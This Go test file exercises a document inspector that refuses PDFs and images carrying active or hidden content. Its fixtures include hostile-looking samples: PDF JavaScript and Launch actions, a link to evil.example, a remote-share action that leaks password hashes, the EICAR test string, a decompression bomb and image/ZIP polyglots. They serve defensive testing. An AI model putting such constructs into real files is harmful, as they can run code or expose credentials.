package attorney_test

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"errors"
	"fmt"
	"image"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"time"

	"github.com/oversikt/oversikt/internal/act"
	"github.com/oversikt/oversikt/internal/act/attorney"
)

func deflated(text string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return b.String()
}

func pdf(objects string) string {
	return "%PDF-1.7\n" + objects + "\ntrailer << /Root 1 0 R >>\n%%EOF\n"
}

func stream(dictionary, content string) string {
	return fmt.Sprintf("4 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj", dictionary, len(content), content)
}

// lineOfStream is an object stream with a script whose data begin after a line like that.
func lineOfStream(line string) string {
	const compressed = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
	return strings.Replace(stream(compressed, deflated("1 0 << /S /JavaScript >>")), "stream\n", line, 1)
}

// zipEnd is the end of an archive, with a comment of so many bytes behind it.
func zipEnd(comment byte) string {
	return "PK\x05\x06" + strings.Repeat("\x00", 16) + string([]byte{comment, 0})
}

func picture(t *testing.T, kind attorney.MediaType) string {
	t.Helper()
	var b bytes.Buffer
	m := image.NewGray(image.Rect(0, 0, 40, 30))
	for i := range m.Pix {
		m.Pix[i] = byte(i * i * 7)
	}
	err := png.Encode(&b, m)
	if kind == attorney.JPEG {
		b.Reset()
		err = jpeg.Encode(&b, m, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + `-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// TestActiveDocuments: what does something, hides something or is two things at once is not taken.
func TestActiveDocuments(t *testing.T) {
	t.Parallel()
	const compressed = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
	scan, photo := picture(t, attorney.PNG), picture(t, attorney.JPEG)
	cases := map[string]struct {
		reason  string
		kind    attorney.MediaType
		content string
		taken   bool
	}{
		"plain": {"a scan", attorney.PDF, pdf("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj"), true},
		"text": {"what a page says is not what it does", attorney.PDF,
			pdf(stream("/Filter /FlateDecode", deflated("BT (JavaScript, Launch) Tj ET"))), true},
		"object stream": {"most PDFs of today", attorney.PDF,
			pdf(stream(compressed, deflated("1 0 << /Type /Catalog /Pages 2 0 R >>"))), true},
		"a photo inside": {"a scan has one", attorney.PDF, pdf(stream("/Subtype /Image /Filter /DCTDecode", photo)), true},
		"updated": {"several ends", attorney.PDF,
			pdf("1 0 obj << >> endobj") + "5 0 obj << >> endobj\n%%EOF\r\n", true},

		"opens somewhere": {"at a place in itself, as what office programs write", attorney.PDF,
			pdf("1 0 obj << /OpenAction [3 0 R /XYZ null null 0] >> endobj"), true},
		"predicted image": {"what it shows is no object", attorney.PDF,
			pdf(stream("/Subtype /Image /Filter /FlateDecode /DecodeParms << /Predictor 15 >>", deflated("\x02\x01"))), true},
		"by chance": {"a picture has short names by chance", attorney.PDF,
			pdf("5 0 obj << >> endobj /AA 7 /EF >"), true},

		"script":  {"it runs", attorney.PDF, pdf("1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), false},
		"escaped": {"the same name", attorney.PDF, pdf("1 0 obj << /S /J#61va#53cript /JS (x) >> endobj"), false},
		"hidden script": {"in an object stream", attorney.PDF,
			pdf(stream(compressed, deflated("1 0 << /S /JavaScript /JS (x) >>"))), false},
		"escaped inside": {"both", attorney.PDF, pdf(stream(compressed,
			deflated("1 0 << /S /#4aavaScript /JS (x) >>"))), false},
		"not to be seen": {"in a filter that is not read here", attorney.PDF,
			pdf(stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", "789c")), false},
		"escaped kind": {"and its kind is escaped", attorney.PDF,
			pdf(stream("/Type /Obj#53tm /Filter /LZWDecode", "\x80\x0b")), false},
		"at opening":       {"it acts by itself", attorney.PDF, pdf("1 0 obj << /OpenAction 5 0 R >> endobj"), false},
		"starts a program": {"it acts", attorney.PDF, pdf("1 0 obj << /S /Launch /F (calc.exe) >> endobj"), false},
		"brings a file": {"nobody has asked for it", attorney.PDF,
			pdf("1 0 obj << /Type /EmbeddedFile >> endobj"), false},
		"brings files": {"the same", attorney.PDF,
			pdf("1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj"), false},
		"opens a page": {"each page can act", attorney.PDF,
			pdf(`1 0 obj << /AA << /O << /S /URI /URI (http://evil.example) >> >> >> endobj`), false},
		"acts elsewhere": {"what acts is another object", attorney.PDF, pdf("1 0 obj << /AA 7\n0 R >> endobj"), false},
		"acts behind":    {"a comment is space", attorney.PDF, pdf("1 0 obj << /AA %\n7 0 R >> endobj"), false},
		"calls a share": {"Windows sends a password's hash there", attorney.PDF,
			pdf(`1 0 obj << /S /GoToR /F (\\\\evil\\x) >> endobj`), false},
		"attached": {"a file at a page, which needs no type", attorney.PDF,
			pdf("1 0 obj << /Subtype /FileAttachment /FS 5 0 R >> endobj"), false},
		"attached at it": {"a file at anything", attorney.PDF, pdf("1 0 obj << /EF << /F 5 0 R >> >> endobj"), false},
		"portfolio": {"a page for files", attorney.PDF,
			pdf("1 0 obj << /Collection << /View /T >> >> endobj"), false},
		"model": {"its script has no such name", attorney.PDF,
			pdf("1 0 obj << /Type /3D /OnInstantiate 7 0 R >> endobj"), false},
		"old film": {"it plays", attorney.PDF, pdf("1 0 obj << /Subtype /Movie /A true >> endobj"), false},
		"predicted": {"a reader adds up what is inflated", attorney.PDF,
			pdf(stream(compressed+" /DecodeParms << /Predictor 12 /Columns 7 >>", deflated("\x02/JavaSc"))), false},
		"inflated twice": {"a reader inflates it again", attorney.PDF, pdf(stream(
			"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", deflated(deflated("1 0 << /S /JavaScript >>")))), false},
		"filters elsewhere": {"what they are is another object", attorney.PDF,
			pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter 9 0 R", deflated("1 0 << >>"))), false},
		"data elsewhere": {"on somebody's share", attorney.PDF,
			pdf(stream(compressed+" /F (x)", deflated("1 0 << >>"))), false},
		"hidden behind CR":    {"most readers take it", attorney.PDF, pdf(lineOfStream("stream\r")), false},
		"hidden behind blank": {"most readers take it", attorney.PDF, pdf(lineOfStream("stream \n")), false},
		"hidden by a text": {"it looks like the beginning", attorney.PDF,
			pdf(stream("/Type /ObjStm /First 4 /X (obj << %) \n/Filter /LZWDecode", "\x80\x0b")), false},
		"hidden by length": {"its beginning is far away", attorney.PDF,
			pdf(stream("/Type /ObjStm /First 4 /X ("+strings.Repeat("x", 20_000)+") /Filter /LZWDecode", "\x80\x0b")), false},
		"without a type": {"not all readers ask for it", attorney.PDF,
			pdf(stream("/N 1 /First 4 /Filter /LZWDecode", "\x80\x0b")), false},
		"many streams": {"it would take long", attorney.PDF, pdf(strings.Repeat(" stream ", 6000)), false},
		"locked": {"nobody can look", attorney.PDF,
			pdf("1 0 obj << >> endobj\ntrailer << /Encrypt 9 0 R >>"), false},
		"form": {"a form with scripts", attorney.PDF,
			pdf("1 0 obj << /AcroForm << /XFA 9 0 R >> >> endobj"), false},
		"film": {"it plays", attorney.PDF, pdf("1 0 obj << /Subtype /RichMedia >> endobj"), false},
		"bomb": {"64 MiB of nothing", attorney.PDF, pdf(stream("/Filter /FlateDecode",
			deflated(string(make([]byte, 65<<20))))), false},
		"and a virus": {"behind the end", attorney.PDF, pdf("1 0 obj << >> endobj") + eicar, false},
		"and an archive": {"ZIP is read from its end", attorney.PDF,
			pdf("%PK\x03\x04 something\nPK\x05\x06 its end"), false},
		"and a page": {"a browser might show it", attorney.PDF,
			"%PDF-1.7\n<script>alert(1)</script>\n%%EOF\n", false},
		"without an end":    {"cut off", attorney.PDF, "%PDF-1.7\n1 0 obj", false},
		"PNG":               {"an image", attorney.PNG, scan, true},
		"PNG and a page":    {"behind the end", attorney.PNG, scan + "<script>alert(1)</script>", false},
		"PNG cut":           {"no end", attorney.PNG, scan[:len(scan)-4], false},
		"PNG with a length": {"beyond the end", attorney.PNG, scan[:8] + "\xff\xff\xff\xf0" + scan[12:], false},
		"JPEG":              {"an image", attorney.JPEG, photo, true},
		"JPEG twice":        {"phones do that", attorney.JPEG, photo + "\x00\x00" + photo, true},
		"JPEG and a virus":  {"behind the end", attorney.JPEG, photo + eicar, false},
		"JPEG and a ZIP":    {"behind the end", attorney.JPEG, photo + "PK\x03\x04", false},
		"JPEG around a ZIP": {"its end has a place for this one's", attorney.JPEG,
			photo[:len(photo)-2] + "\xff\xfe\x00\x18" + zipEnd(2) + photo[len(photo)-2:], false},
		"PNG around a ZIP": {"the same", attorney.PNG,
			scan[:len(scan)-12] + "\x00\x00\x00\x16ziPx" + zipEnd(16) + "\x00\x00\x00\x00" + scan[len(scan)-12:], false},
		"JPEG around a page": {"a comment", attorney.JPEG, photo[:2] + "\xff\xfe\x00\x08<html>" + photo[2:], false},
		"JPEG cut":           {"no end", attorney.JPEG, photo[:len(photo)-2], false},
	}
	w := newWorld(t)
	r := w.register()
	for name, tc := range cases {
		in := input()
		in.Signing = attorney.SigningInput{Document: &attorney.DocumentInput{MediaType: tc.kind,
			Base64: base64.StdEncoding.EncodeToString([]byte(tc.content))}}
		_, err := r.Give(t.Context(), kari(), in)
		var wrong act.Faults
		if (err == nil) != tc.taken || err != nil && (!errors.As(err, &wrong) || len(wrong) != 1) {
			t.Errorf("%s (%s): %v", name, tc.reason, err)
		}
	}
}

// TestInspectionIsQuick: nothing that fits into a document takes a core for long to be refused or taken.
func TestInspectionIsQuick(t *testing.T) {
	t.Parallel()
	bodies := map[string]string{}
	for _, part := range []string{"stream\n", "/ObjStm stream\n", "#41", "/AA <", "obj<<", "1 0 obj<</A(obj<<)>>stream\nx "} {
		bodies["raw "+part] = strings.Repeat(part, 4<<20/len(part))
	}
	for _, part := range []string{"#41/A", "/A", "/AA <"} {
		one := stream("/Filter /FlateDecode", deflated(strings.Repeat(part, 1<<20/len(part))))
		bodies["inflated "+part] = strings.Repeat(one+"\n", 10)
	}
	most := 2000 * onePass() // it is a hundred, and was four thousand
	for name, body := range bodies {
		began := time.Now()
		attorney.Plain(attorney.PDF, []byte(pdf(body)))
		if took := time.Since(began); took > most {
			t.Errorf("%s: %v, and at most %v will do", name, took, most)
		}
	}
}

// onePass is how long it takes here to look at each byte of such a document once.
func onePass() (slowest time.Duration) {
	content := bytes.Repeat([]byte("a/"), 2<<20)
	for range 5 {
		began, slashes := time.Now(), 0
		for _, c := range content {
			if c == '/' {
				slashes++
			}
		}
		if slashes > 0 {
			slowest = max(slowest, time.Since(began))
		}
	}
	return slowest
}
